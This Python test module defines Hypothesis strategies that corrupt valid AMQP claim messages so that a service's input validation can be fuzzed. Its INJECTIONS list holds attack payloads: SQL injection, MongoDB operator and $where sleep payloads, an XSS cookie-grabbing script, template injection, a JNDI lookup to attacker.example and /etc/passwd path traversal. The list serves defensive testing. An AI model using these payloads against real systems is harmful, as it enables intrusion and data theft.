"""Hypothesis strategies of bad input: messages a hostile or broken sender could publish.

Each strategy starts from a valid body and breaks it in one way (or adds something odd
that may still be valid), and draws the AMQP properties too. A ``Bad`` says what kind
of damage it carries and whether the contract must refuse it (``must_reject``): odd but
legal text (emoji, right-to-left marks, ``$where`` in a note) may be accepted, and is
then stored as it came.

``corpus(strategy, n)`` draws ``n`` examples deterministically (``derandomize``), so the
same messages are sent on every run.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

Doc = dict[str, Any]

#: Strings an attacker tries: SQL, MongoDB operators, script, template, JNDI, paths, and
#: forged log lines.
INJECTIONS = [
    "'; DROP TABLE claims; --",
    '" OR "1"="1',
    '{"$gt": ""}',
    "$where: function() { sleep(10000); return true; }",
    "{$ne: null}",
    "this.password.match(/.*/)",
    "<script>alert(document.cookie)</script>",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "${jndi:ldap://attacker.example/a}",
    "../../../../etc/passwd",
    "\r\n2026-12-04 12:00:00 ERROR hub forged log line",
    "%s%s%s%n%x",
    "\x1b[31mred\x1b[0m",
    "Robert'); DROP TABLE students;--",
]

#: Unicode a parser or a store may trip on.
UNICODE = [
    "\u0000",
    "a\u0000b",
    "\u202egnp.exe",  # right-to-left override
    "\u200f\u05e9\u05dc\u05d5\u05dd",  # RTL mark + Hebrew
    "مرحبا",
    "😀👍🏽👨‍👩‍👧‍👦",
    "e\u0301\u0301\u0301",  # combining marks
    "\ufeffBOM",
    "\u2028\u2029",
    "\uffff\ufffe",
    "\U0001d573\U0001d58a\U0001d591\U0001d591\U0001d594",  # mathematical letters
    "Ω" * 300,
]

#: Object keys that MongoDB would read as operators or paths if a body were stored as is.
OPERATOR_KEYS = ["$where", "$gt", "$ne", "$set", "$expr", "a.b", "$", "__proto__", "constructor"]


@dataclass
class Bad:
    """One bad message: its body and AMQP properties, and what is wrong with it."""

    kind: str
    body: bytes
    must_reject: bool = True
    content_type: str | None = "application/json"
    type: str | None = None  # None: the entrypoint's usual type
    no_message_id: bool = False
    no_user_id: bool = False  # a partner's report published without its user_id


def _paths(doc: Doc, prefix: tuple[str, ...] = ()) -> list[tuple[str, ...]]:
    out: list[tuple[str, ...]] = []
    for key, value in doc.items():
        out.append((*prefix, key))
        if isinstance(value, dict):
            out.extend(_paths(value, (*prefix, key)))
    return out


def _set(doc: Doc, path: tuple[str, ...], value: Any) -> Doc:
    new = copy.deepcopy(doc)
    target = new
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value
    return new


def _delete(doc: Doc, path: tuple[str, ...]) -> Doc:
    new = copy.deepcopy(doc)
    target = new
    for key in path[:-1]:
        target = target[key]
    del target[path[-1]]
    return new


def _get(doc: Doc, path: tuple[str, ...]) -> Any:
    value: Any = doc
    for key in path:
        value = value[key]
    return value


def dumps(doc: Any) -> bytes:
    return json.dumps(doc, ensure_ascii=False).encode("utf-8", "surrogatepass")


JSON_SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False, allow_infinity=False),
    st.text(max_size=20),
)
JSON_VALUES = st.recursive(
    JSON_SCALARS,
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4)
    ),
    max_leaves=12,
)


def _other_type(value: Any) -> st.SearchStrategy[Any]:
    """A JSON value of another type than ``value``'s."""

    def differs(x: Any) -> bool:
        return type(x) is not type(value) and not (
            isinstance(x, int | float)
            and isinstance(value, int | float)
            and not isinstance(x, bool)
        )

    return JSON_VALUES.filter(differs)


KINDS = (
    "wrong_type",
    "missing_field",
    "unknown_field",
    "operator_key",
    "oversized_string",
    "oversized_body",
    "deep_nesting",
    "invalid_json",
    "invalid_utf8",
    "wrong_content_type",
    "nan_infinity",
    "duplicate_keys",
    "not_an_object",
    "lone_surrogate",
    "unicode_text",
    "injection_text",
    "wrong_message_type",
    "no_message_id",
)


@st.composite
def broken(
    draw: st.DrawFn,
    kind: str,
    base: Doc,
    free_text: list[tuple[str, ...]],
    vary: Callable[[Doc, int], Doc],
) -> Bad:
    """``base`` broken the ``kind`` way. ``free_text``: paths of text nobody parses;
    ``vary(base, n)``: a valid variant of ``base``, so that no two draws are alike."""
    base = vary(base, draw(st.integers(min_value=0, max_value=10**9)))
    paths = _paths(base)
    if kind == "wrong_type":
        path = draw(st.sampled_from(paths))
        value = draw(_other_type(_get(base, path)))
        # null is how JSON leaves out an optional field
        legal = value is None and path[-1] in _NULLABLE
        return Bad(kind, dumps(_set(base, path, value)), must_reject=not legal)
    if kind == "missing_field":
        required = [p for p in paths if p not in free_text and p[-1] not in _OPTIONAL]
        return Bad(kind, dumps(_delete(base, draw(st.sampled_from(required)))))
    if kind == "unknown_field":
        parents = [()] + [p for p in paths if isinstance(_get(base, p), dict)]
        parent = draw(st.sampled_from(parents))
        key = draw(st.text(min_size=1, max_size=30).filter(lambda k: k not in _known_keys(base)))
        return Bad(kind, dumps(_set(base, (*parent, key), draw(JSON_VALUES))))
    if kind == "operator_key":
        parents = [()] + [p for p in paths if isinstance(_get(base, p), dict)]
        parent = draw(st.sampled_from(parents))
        key = draw(st.sampled_from(OPERATOR_KEYS))
        value = draw(st.sampled_from(["sleep(10000)", {"$gt": ""}, 1, {"$where": "1"}]))
        return Bad(kind, dumps(_set(base, (*parent, key), value)))
    if kind == "oversized_string":
        path = draw(st.sampled_from([p for p in paths if isinstance(_get(base, p), str)]))
        size = draw(st.integers(min_value=2_001, max_value=40_000))
        return Bad(kind, dumps(_set(base, path, draw(st.sampled_from("xé😀")) * size)))
    if kind == "oversized_body":
        size = draw(st.integers(min_value=70_000, max_value=200_000))
        return Bad(kind, dumps(_set(base, draw(st.sampled_from(paths)), "y" * size)))
    if kind == "deep_nesting":
        depth = draw(st.integers(min_value=30, max_value=20_000))
        opener, closer = draw(st.sampled_from([("[", "]"), ('{"a":', "}")]))
        nested = (opener * depth + "1" + closer * depth).encode()
        path = draw(st.sampled_from(paths))
        placeholder = "\x00NEST\x00"
        text = dumps(_set(base, path, placeholder))
        return Bad(kind, text.replace(json.dumps(placeholder).encode(), nested))
    if kind == "invalid_json":
        text = dumps(base)
        how = draw(st.sampled_from(["truncate", "garbage", "single_quotes", "comment", "trailing"]))
        if how == "truncate":
            body = text[: draw(st.integers(min_value=0, max_value=len(text) - 1))]
        elif how == "garbage":
            body = draw(st.binary(min_size=0, max_size=300))
        elif how == "single_quotes":
            body = text.replace(b'"', b"'")
        elif how == "comment":
            body = b"/* hi */" + text
        else:
            body = text + draw(st.sampled_from([b",", b"}", b" x", b"\x00", b"{}"]))
        try:  # a rare draw is valid JSON after all (an empty truncation is not)
            json.loads(body)
        except ValueError:
            return Bad(kind, body)
        return Bad(kind, b"{" + body)
    if kind == "invalid_utf8":
        text = dumps(base)
        at = draw(st.integers(min_value=0, max_value=len(text)))
        junk = draw(
            st.sampled_from([b"\xff", b"\xc3\x28", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80"])
        )
        return Bad(kind, text[:at] + junk + text[at:])
    if kind == "wrong_content_type":
        ct = draw(
            st.sampled_from(
                ["text/plain", "application/xml", "application/json; charset=utf-16", "", "x" * 200]
            )
        )
        return Bad(kind, dumps(base), content_type=ct or "application/octet-stream")
    if kind == "nan_infinity":
        path = draw(st.sampled_from(paths))
        token = draw(st.sampled_from(["NaN", "Infinity", "-Infinity", "1e999", "-0", "1e-999"]))
        placeholder = "\x00NUM\x00"
        text = dumps(_set(base, path, placeholder))
        return Bad(kind, text.replace(json.dumps(placeholder).encode(), token.encode()))
    if kind == "duplicate_keys":
        path = draw(st.sampled_from([p for p in paths if len(p) == 1]))
        good = json.dumps(_get(base, path)).encode()
        bad = json.dumps(draw(_other_type(_get(base, path)))).encode()
        first, second = (good, bad) if draw(st.booleans()) else (bad, good)
        text = dumps(_delete(base, path))
        key = json.dumps(path[0]).encode()
        body = b"{" + key + b":" + first + b"," + key + b":" + second + b"," + text[1:]
        # the parser keeps the last value: a valid last value is a valid message
        return Bad(kind, body, must_reject=second == bad)
    if kind == "not_an_object":
        value = draw(st.one_of(JSON_SCALARS, st.lists(JSON_SCALARS, max_size=3), st.just([base])))
        return Bad(kind, dumps(value))
    if kind == "lone_surrogate":
        path = draw(st.sampled_from([p for p in paths if isinstance(_get(base, p), str)]))
        surrogate = draw(st.sampled_from(["\ud800", "\udfff", "a\udc00b"]))
        as_escape = draw(st.booleans())
        doc = _set(base, path, surrogate)
        body = json.dumps(doc).encode() if as_escape else dumps(doc)
        return Bad(kind, body)
    if kind in ("unicode_text", "injection_text"):
        path = draw(st.sampled_from(free_text))
        pool = UNICODE if kind == "unicode_text" else INJECTIONS
        value = draw(st.sampled_from(pool)) + draw(st.text(max_size=10))
        # free text is free: odd but legal text may be accepted
        return Bad(kind, dumps(_set(base, path, value)), must_reject=False)
    if kind == "wrong_message_type":
        mtype = draw(
            st.sampled_from(["claim.deleted", "case.hack", "CLAIM.PLACED", "x" * 255, "💥"])
        )
        return Bad(kind, dumps(base), type=mtype)
    if kind == "no_user_id":  # partner reports only: the broker checks user_id if set
        return Bad(kind, dumps(base), no_user_id=True)
    assert kind == "no_message_id"
    # without a message id the body's digest stands in: a valid body is still processed
    nonce = draw(st.integers(min_value=0, max_value=2**62))
    return Bad(kind, dumps({**base, "unexpected_nonce": nonce}), no_message_id=True)


#: Fields that may be left out (or null) in a claim or a report.
_NULLABLE = frozenset(
    {
        "contract_ref",
        "notes",
        "phase",
        "batch_id",
        "batch_size",
        "registration_id",
        "vat_id",
        "email",
        "phone",
        "language",
        "line2",
        "postal_code",
        "region",
        "note",
    }
)
#: Fields that may be left out.
_OPTIONAL = _NULLABLE | {"interest", "fees"}


def _known_keys(doc: Doc) -> set[str]:
    keys: set[str] = set()
    for path in _paths(doc):
        keys.add(path[-1])
    return keys | _OPTIONAL


def corpus(strategy: st.SearchStrategy[Bad], n: int) -> list[Bad]:
    """``n`` examples of ``strategy``, the same on every run."""
    drawn: list[Bad] = []

    @settings(
        max_examples=n,
        derandomize=True,
        database=None,
        deadline=None,
        suppress_health_check=list(HealthCheck),
        phases=[Phase.generate],
    )
    @given(strategy)
    def collect(bad: Bad) -> None:
        drawn.append(bad)

    collect()
    return drawn


def corpus_of_every_kind(
    make: Callable[[str], st.SearchStrategy[Bad]], n: int, kinds: tuple[str, ...] = KINDS
) -> list[Bad]:
    """About ``n`` examples, as many of each kind, interleaved."""
    per_kind = [corpus(make(kind), -(-n // len(kinds))) for kind in kinds]
    return [bad for row in zip(*per_kind, strict=False) for bad in row if bad is not None]


def by_kind(items: list[Bad]) -> dict[str, int]:
    counts: dict[str, int] = {}
    for item in items:
        counts[item.kind] = counts.get(item.kind, 0) + 1
    return dict(sorted(counts.items()))
